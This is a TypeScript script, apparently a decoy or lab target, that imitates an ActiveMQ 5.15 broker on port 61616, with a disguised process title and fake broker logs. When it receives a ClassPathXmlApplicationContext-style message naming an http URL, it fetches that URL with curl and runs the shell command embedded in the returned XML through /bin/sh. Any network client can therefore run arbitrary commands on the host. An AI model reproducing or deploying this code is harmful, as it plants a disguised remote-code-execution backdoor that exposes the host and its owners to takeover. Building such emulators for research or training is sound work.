// Plays ActiveMQ 5.15 over OpenWire: the name of a class with the address of a Spring file; what lies there is a command. Its log is ActiveMQ's.
import { execFile } from 'node:child_process'
import { appendFileSync, mkdirSync } from 'node:fs'
import { createServer } from 'node:net'

process.title = process.env['TITLE'] ?? 'java -jar /opt/activemq/bin/activemq.jar start'
const log = `${process.env['HOME']}/data/activemq.log`
mkdirSync(`${process.env['HOME']}/data`, { recursive: true })
const say = (level: string, text: string): void =>
  appendFileSync(log, `${new Date().toISOString().replace('T', ' ').replace('.', ',').replace('Z', '')} | ${level.padEnd(5)} | ${text}\n`)
say('INFO', 'Apache ActiveMQ 5.15.15 (localhost, ID:orders-1) started | org.apache.activemq.broker.BrokerService | main')

createServer(socket => {
  const from = `tcp://${socket.remoteAddress?.replace('::ffff:', '')}:${socket.remotePort}@61616`
  socket.on('error', () => socket.destroy())
  socket.on('data', part => {
    const [, url] = /ClassPathXmlApplicationContext.*?(http:\/\/[\w.:/-]+)/s.exec(part.toString('latin1')) ?? []
    if (url === undefined) return
    say(
      'WARN',
      `Transport Connection to: ${from.replace('@61616', '')} failed: java.io.IOException: The pooled connection could not be read | org.apache.activemq.broker.TransportConnection.Transport | ActiveMQ Transport: ${from}`,
    )
    execFile('curl', ['-fsS', url], (_error, said) => {
      const command = /<value>([^<]*sh[^<]*)<\/value>\s*<\/list>/.exec(said)?.[1]
      if (command !== undefined) execFile('/bin/sh', ['-c', command.replaceAll('&amp;', '&')])
      socket.end()
    })
  })
}).listen(61616, '0.0.0.0')
